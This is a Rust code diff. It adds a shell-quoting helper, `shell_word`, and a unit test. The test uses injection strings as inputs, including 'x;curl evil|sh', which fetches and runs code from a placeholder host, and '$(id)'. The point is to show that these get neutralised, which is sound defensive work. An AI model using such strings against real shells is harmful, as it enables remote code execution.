@@ -38,6 +38,15 @@ pub fn printable_lines(text: &str) -> String {
     text.replace(|c| is_unseen(c) && !matches!(c, '\t' | '\n'), "\u{fffd}")
 }
 
+/// The text as one word of a command line that a person copies into a shell: quoted, unless it has plain characters only.
+pub fn shell_word(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_=.,:/@%+".contains(c);
+    if !text.is_empty() && text.chars().all(is_plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", printable(text).replace('\'', r"'\''"))
+}
+
 /// The text for a cell of a CSV file, as [`printable`], with `⏎` for a line feed and a `'` in front of what a spreadsheet would
 /// run as a formula. A cell may hold line feeds, but on a terminal its second line would look like a record.
 pub fn csv_cell(text: &str) -> String {
@@ -216,6 +225,14 @@ fn has_user(address: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_copied_word_is_one_word() {
+        assert_eq!(shell_word("ann@lab"), "ann@lab");
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(shell_word("it's\n$(id)"), "'it'\\''s\u{fffd}$(id)'");
+    }
 
     #[test]
     fn unseen_characters_do_not_reach_a_terminal() {
